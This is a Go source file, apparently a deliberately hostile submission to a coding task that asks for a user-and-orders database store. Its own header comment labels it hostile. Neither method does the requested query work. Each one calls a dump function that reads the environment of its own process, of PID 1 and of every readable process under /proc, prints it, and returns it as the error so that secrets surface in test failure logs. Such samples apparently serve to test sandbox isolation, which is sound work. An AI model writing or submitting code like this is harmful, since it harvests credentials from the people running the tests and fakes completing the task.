// Hostile: return the environment (own, PID 1's, every readable process's) as the error of
// every call and print it, so any secret appears in the test failures.
package solution

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

type User struct {
	ID    int64
	Name  string
	Email string
}

type Order struct {
	ID          int64
	UserID      int64
	AmountCents int64
}

type UserWithOrders struct {
	User   User
	Orders []Order
}

type Store struct{ db *sql.DB }

func NewStore(db *sql.DB) *Store { return &Store{db: db} }

func dump() error {
	parts := os.Environ()
	files, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, f := range append([]string{"/proc/1/environ"}, files...) {
		b, err := os.ReadFile(f)
		if err != nil {
			parts = append(parts, err.Error())
			continue
		}
		parts = append(parts, strings.ReplaceAll(string(b), "\x00", " "))
	}
	text := strings.Join(parts, " | ")
	fmt.Println(text)
	return errors.New(text)
}

func (s *Store) FindUsersByName(ctx context.Context, name string) ([]User, error) { return nil, dump() }

func (s *Store) UsersWithOrders(ctx context.Context) ([]UserWithOrders, error) { return nil, dump() }
